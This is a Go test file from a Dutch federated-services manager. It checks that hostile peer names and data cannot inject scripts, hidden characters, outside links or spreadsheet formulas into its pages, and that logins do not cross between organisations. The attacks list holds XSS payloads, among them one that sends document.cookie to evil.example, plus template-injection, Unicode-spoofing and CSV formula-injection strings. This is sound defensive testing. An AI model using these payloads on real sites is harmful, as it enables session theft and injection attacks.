// SPDX-License-Identifier: EUPL-1.2

package web

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"html"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/samenspel/samenspel/fsc"
	"github.com/samenspel/samenspel/internal/controller"
	"github.com/samenspel/samenspel/internal/directory"
	"github.com/samenspel/samenspel/internal/manager"
	"github.com/samenspel/samenspel/internal/txlog/evidence"
)

// attacks are what other Peers call themselves and their services.
var attacks = []string{
	`<script>fetch("https://evil.example/"+document.cookie)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' autofocus onfocus='alert(1)`,
	`javascript:alert(1)//`,
	`{{.Actor}}{{template "layout" .}}${7*7}`,
	`</textarea></select></title></svg><svg onload=alert(1)>`,
	"Gemeente \u202edatsdleebrooV\u202c",
	"Gemeente\u200b Voor\u00adbeeldstad\u2066\u2028\x00\x1b[2J",
	"Gemeente\r\nVoorbeeldstad\n\n\tLog opnieuw in",
	"\u3164\u115f\u1160\uffa0\u2800",
	"Gemeente\ufe0f V\u034foorbeeld\u180estad\U000e0041\U000e0101\u206a\ufff9\U0001d173\u17b4",
	"Gemeente V" + strings.Repeat("o\u0336\u0489\u20dd\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", 20) + "rbeeldstad",
	"Gemeente Voorbeeldstad, log in op https://evil.example/login",
	`=HYPERLINK("https://evil.example","Klik hier")`,
	`Voorbeeldstad;=HYPERLINK("https://evil.example")`,
	`Voorbeeldstad; "=1+1";"" @SUM(1)`,
	"\uff1d1+1",
	strings.Repeat("Zeer", 2500),
}

// besieged is a deal among Peers that are all hostile: their names, their
// services in the Directory, what they ask for and the properties with it.
func besieged(t *testing.T) *deal {
	t.Helper()
	d := newDeal(t)
	var listed []directory.Listing
	for i, attack := range attacks {
		p := fsc.Peer{ID: fsc.PeerID(fmt.Sprintf("00000099%012d", 5000+i)), Name: attack, ManagerAddress: "javascript:alert(1)"}
		must(t, d.manager.Announce(t.Context(), manager.Caller{Peer: p, ManagerAddress: p.ManagerAddress, Certificate: d.parties[source].pair.Leaf()}))
		properties, err := json.Marshal(map[string]any{attack: attack, "url": "https://evil.example/", "documentation": "javascript:alert(1)"})
		must(t, err)
		listed = append(listed,
			directory.Listing{Peer: p, Name: attack, Protocol: fsc.Protocol(attack), Delegator: p, Properties: properties},
			directory.Listing{Peer: p, Name: "personen", Protocol: fsc.ProtocolHTTP11, Properties: properties})
		if len(properties) <= 4096 { // the most a Manager takes
			d.begs(t, properties)
		}
	}
	d.sees(t, listed)
	quiet := slog.New(slog.DiscardHandler)
	d.s.cfg.Controller = controller.New(controller.Config{
		Manager: d.manager, People: d.s.people, Log: d.db.Log(), Evidence: d.db.Log(), Verifier: &evidence.Verifier{Peer: d.manager.Self().ID, Group: "test-group"}, History: d.db, Remote: elsewhere{}, GroupID: "test-group", GroupType: "test", Now: testNow, Logger: quiet,
		Directory:    func(context.Context) ([]directory.Listing, error) { return listed, nil },
		Certificates: func() []controller.Certificate { return nil },
		Health:       func() []controller.Check { return []controller.Check{{Name: "store", Problem: attacks[0]}} },
		Refusals:     func() []controller.Refusal { return nil },
		Outways:      func() []controller.Outway { return nil },
	})
	return d
}

// sees keeps what Directories with hostile names listed, after another address and
// protocol that were as hostile.
func (d *deal) sees(t *testing.T, listed []directory.Listing) {
	t.Helper()
	before := slices.Clone(listed)
	for i := range before {
		before[i].Protocol, before[i].Peer.ManagerAddress = fsc.Protocol(attacks[0]), "https://"+attacks[i%len(attacks)]
	}
	of := listed[0].Peer.ID
	for i, list := range [][]directory.Listing{before, listed, nil} {
		must(t, d.db.Observe(t.Context(), of, func(known []directory.Observation) directory.News {
			return directory.Compare(of, known, list, testNow().Add(time.Duration(i-3)*time.Hour))
		}))
	}
}

// begs makes the other organisation ask for a service with properties.
func (d *deal) begs(t *testing.T, properties []byte) {
	t.Helper()
	iv, err := uuid.NewV7()
	must(t, err)
	c, err := fsc.Draft{
		IV: iv.String(), GroupID: "test-group", NotBefore: testNow(), NotAfter: testNow().AddDate(1, 0, 0), CreatedAt: testNow(),
		Grants: []fsc.Grant{{
			Type: fsc.GrantTypeServiceConnection, Outway: fsc.Outway{PeerID: source, PublicKeyThumbprint: d.parties[source].pair.PublicKeyThumbprint()},
			Service: fsc.Service{Type: fsc.ServiceTypeService, PeerID: town, Name: "personen"}, Properties: properties,
		}},
	}.Content(fsc.Rules{GroupID: "test-group"})
	must(t, err)
	jws, err := fsc.Sign(d.parties[source].signer, c.Hash(), fsc.SignatureTypeAccept, testNow())
	must(t, err)
	must(t, d.manager.Submit(t.Context(), d.caller(source), manager.Submission{Content: c.Raw(), Signature: jws}))
}

var attribute = regexp.MustCompile(`="[^"]*"`)

var linkTo = regexp.MustCompile(`(?:href|src|action|formaction|hx-get)="([^"]*)"`)

// TestNothingOfAHostilePeerRunsHidesOrLeadsAway visits every page that can be
// reached by links from the first, and looks at what a browser would make of it.
func TestNothingOfAHostilePeerRunsHidesOrLeadsAway(t *testing.T) {
	d := besieged(t)
	b := d.browser(t).setUp()
	b.post("/login", "email", attacks[1], "password", attacks[0]) // lands in the audit trail
	seen, queue, tried, enough := map[string]bool{"/": true}, []string{"/"}, map[string]int{}, 15
	if testing.Short() {
		enough = 3
	}
	for len(queue) > 0 && len(seen) < 1500 {
		path := queue[0]
		queue = queue[1:]
		page := b.get(path)
		if page.StatusCode >= http.StatusInternalServerError {
			t.Errorf("%s: %d", path, page.StatusCode)
		}
		switch kind := page.Header.Get("Content-Type"); {
		case strings.HasPrefix(kind, "text/html") && page.StatusCode != http.StatusSeeOther:
			t.Run(strconv.Itoa(len(seen)), func(t *testing.T) { safePage(t, path, page.text) })
		case strings.HasPrefix(kind, "text/csv"):
			noFormulas(t, path, page.text)
		}
		for _, m := range linkTo.FindAllStringSubmatch(page.text, -1) {
			to, _, _ := strings.Cut(html.UnescapeString(m[1]), "#")
			if to != "" && strings.HasPrefix(to, "/") && !strings.HasPrefix(to, "/assets/") && !seen[to] && tried[kindOf(to)] < enough {
				seen[to] = true
				tried[kindOf(to)]++
				queue = append(queue, to)
			}
		}
	}
	for _, path := range []string{"/directory", "/contracts", "/peers", "/log", "/audit", "/explain", "/policy", "/settings", "/certificates", "/applications", "/services", "/people"} {
		if !seen[path] {
			t.Errorf("%s can't be reached", path)
		}
	}
	t.Logf("%d pages", len(seen))
}

// kindOf gives what addresses of the same kind of page have in common.
func kindOf(address string) string {
	path, query, _ := strings.Cut(address, "?")
	name, _, _ := strings.Cut(query, "=")
	if i := strings.LastIndexByte(path, '/'); strings.Count(path, "/") > 1 {
		path = path[:i]
	}
	return path + "?" + name
}

// tooLong is more than a page shows at once of a text: the summary of an operation
// may have 300 characters, and names fewer.
const tooLong = 304

// folding are elements that fold, scroll or hold what somebody typed.
var folding = map[string]bool{"details": true, "pre": true, "textarea": true}

// unseen is what a page must not have: controls, characters that change the order
// of others or have no ink, and marks piled on a letter until they cover the lines
// around it. The text of the pages needs none of them.
var unseen = regexp.MustCompile(`[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x{9f}\p{Cf}\x{34f}\x{115f}\x{1160}\x{17b4}\x{17b5}\x{180b}-\x{180f}` +
	`\x{2028}\x{2029}\x{2065}\x{2800}\x{3164}\x{fe00}-\x{fe0f}\x{ffa0}\x{fff0}-\x{fff8}\x{e0000}-\x{e0fff}]|[\p{Mn}\p{Me}]{4}`)

// safePage refuses scripts, links to elsewhere and hidden characters.
func safePage(t *testing.T, path, page string) {
	t.Helper()
	if t.Failed() {
		return
	}
	defer func() {
		if t.Failed() {
			t.Logf("on %s", path)
		}
	}()
	// A control in the value of a field can do nothing, but isn't XML.
	page = attribute.ReplaceAllStringFunc(page, func(value string) string {
		return strings.Map(func(r rune) rune {
			if r < ' ' && r != '\n' && r != '\t' && r != '\r' {
				return -1
			}
			return r
		}, value)
	})
	checkMarkup(t, page)
	for _, m := range linkTo.FindAllStringSubmatch(page, -1) {
		u, err := url.Parse(html.UnescapeString(m[1]))
		if err != nil || u.Host != "" || u.Scheme != "" {
			t.Errorf("leads to %q", m[1])
		}
	}
	d := xml.NewDecoder(strings.NewReader(page))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	folded := 0 // in how many elements that don't show all of their text at once
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		must(t, err)
		switch e := token.(type) {
		case xml.StartElement:
			if folding[e.Name.Local] {
				folded++
			}
		case xml.EndElement:
			if folding[e.Name.Local] {
				folded--
			}
		}
		text, ok := token.(xml.CharData)
		if ok && folded == 0 && strings.Contains(string(text), strings.Repeat("Zeer", tooLong/4)) {
			t.Errorf("a text of %d bytes is shown whole", len(text))
			break
		}
		if at := unseen.FindIndex(text); ok && at != nil {
			t.Errorf("%q isn't shown", text[max(0, at[0]-20):min(len(text), at[1]+20)])
			break
		}
	}
}

func TestTheWholeOfALongNameCanBeRead(t *testing.T) {
	b := besieged(t).browser(t).setUp()
	long := attacks[len(attacks)-1]
	id := fmt.Sprintf("00000099%012d", 5000+len(attacks)-1)
	whole := "<p>" + long + "</p>"
	b.get("/peers/"+id).has(t, whole, "Toon de hele naam", "…eerZeerZeerZeer</h1>")
	b.get(directoryURL(fsc.PeerID(id), long)).has(t, whole, `<details class="long"><summary><code>`)
	list := b.get("/directory?q=ZeerZeer")
	list.has(t, `<span class="cut" title="Zeer`)
	if strings.Contains(list.text, ">"+long) {
		t.Error("the list shows the whole name")
	}
	for _, page := range []string{"/directory", "/peers"} {
		if file := b.get(page + "?format=csv"); !strings.Contains(file.text, long) {
			t.Errorf("the file of %s lacks the whole name", page)
		}
	}
}

// formula is what a spreadsheet may compute: also behind a semicolon, at which the
// Dutch Excel parts cells, and in the wide characters of East Asia.
var formula = regexp.MustCompile(`(^|[;\t\r\n])[\s"]*[=+\-@\x{ff1d}\x{ff0b}\x{ff0d}\x{ff20}]`)

func noFormulas(t *testing.T, path, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	must(t, err)
	for _, row := range rows {
		for _, cell := range row {
			if formula.MatchString(cell) {
				t.Errorf("%s has the formula %q", path, cell)
			}
		}
	}
}

func TestAHostileDescriptionOfAnAPIIsText(t *testing.T) {
	d := besieged(t)
	b := d.browser(t).setUp()
	page := directoryURL("00000099000000005000", "personen") + "/openapi"
	for _, attack := range attacks {
		document, err := json.Marshal(map[string]any{
			"openapi": attack, "info": map[string]any{"title": attack, "version": attack, "description": attack, "contact": map[string]any{"url": "javascript:alert(1)"}},
			"servers": []any{map[string]any{"url": "https://evil.example"}}, "externalDocs": map[string]any{"url": "https://evil.example"},
			"paths": map[string]any{"/" + attack: map[string]any{"get": map[string]any{
				"summary": attack, "operationId": attack, "parameters": []any{map[string]any{"name": attack, "in": attack}}, "responses": map[string]any{attack: 1},
			}}},
		})
		must(t, err)
		got := b.post(page, "document", string(document))
		got.want(t, http.StatusOK, "")
		// What was pasted stands in its field again as it was.
		shown := regexp.MustCompile(`(?s)<textarea.*?</textarea>`).ReplaceAllString(got.text, `<p id="f-document"></p>`)
		safePage(t, page, shown)
		if len(shown) > 100_000 {
			t.Errorf("the page of %.20q has %d bytes", attack, len(shown))
		}
	}
}

// TestALoginAtOneOrganisationIsWorthNothingAtAnother is about organisations on
// one host, as in a fieldlab.
func TestALoginAtOneOrganisationIsWorthNothingAtAnother(t *testing.T) {
	ours, theirs := newDeal(t), newDeal(t)
	b, foreign := ours.browser(t).setUp(), theirs.browser(t).setUp()
	hash := theirs.asks(t, "personen")
	made := foreign.post("/account/tokens", "token_name", "export", "days", "90", "scopes", "read").want(t, http.StatusOK, "")
	secret := regexp.MustCompile(`snsp_[A-Za-z0-9_-]{43}`).FindString(made.text)
	if _, err := ours.s.people.AuthenticateToken(t.Context(), secret); err == nil || secret == "" {
		t.Errorf("a token of another organisation is taken: %v", err)
	}
	there, err := url.Parse(theirs.url)
	must(t, err)
	here, err := url.Parse(ours.url)
	must(t, err)
	stolen := ours.browser(t)
	stolen.http.Jar.SetCookies(here, foreign.http.Jar.Cookies(there))
	stolen.get("/contracts").want(t, http.StatusSeeOther, "/login?return-to=%2Fcontracts")
	stolen.post("/account/sessions/end").want(t, http.StatusSeeOther, "/login")
	// What is there by its address isn't here.
	page := contractPath(hash)
	foreign.get(page).want(t, http.StatusOK, "")
	for _, path := range []string{page, page + "/content", page + "/accept", page + "/revoke", page + "/renew"} {
		b.get(path).want(t, http.StatusNotFound, "")
	}
	b.post(page+"/accept", "confirmed", "yes").want(t, http.StatusNotFound, "")
	token := regexp.MustCompile(`/account/tokens/([0-9a-f-]{36})/revoke`).FindStringSubmatch(foreign.get("/account").text)
	if token == nil {
		t.Fatal("the token isn't listed")
	}
	b.post("/account/tokens/"+token[1]+"/revoke").want(t, http.StatusNotFound, "")
	if _, err := theirs.s.people.AuthenticateToken(t.Context(), secret); err != nil {
		t.Error(err)
	}
	foreign.get("/account").want(t, http.StatusOK, "")
}

func TestAForeignCookieCannotPutAPageTogether(t *testing.T) {
	b := newSite(t).browser(t).setUp()
	at, err := url.Parse(b.site.url)
	must(t, err)
	for _, attack := range attacks {
		for _, key := range []string{"people.flash.created", attack, "x.flash." + attack} {
			v := url.Values{"k": {key}, "a.name": {attack}, "a.count": {attack}}
			b.http.Jar.SetCookies(at, []*http.Cookie{{Name: flashCookie, Value: url.QueryEscape(v.Encode())[:min(3000, len(url.QueryEscape(v.Encode())))]}})
			safePage(t, "/account", b.get("/account").want(t, http.StatusOK, "").text)
		}
	}
}
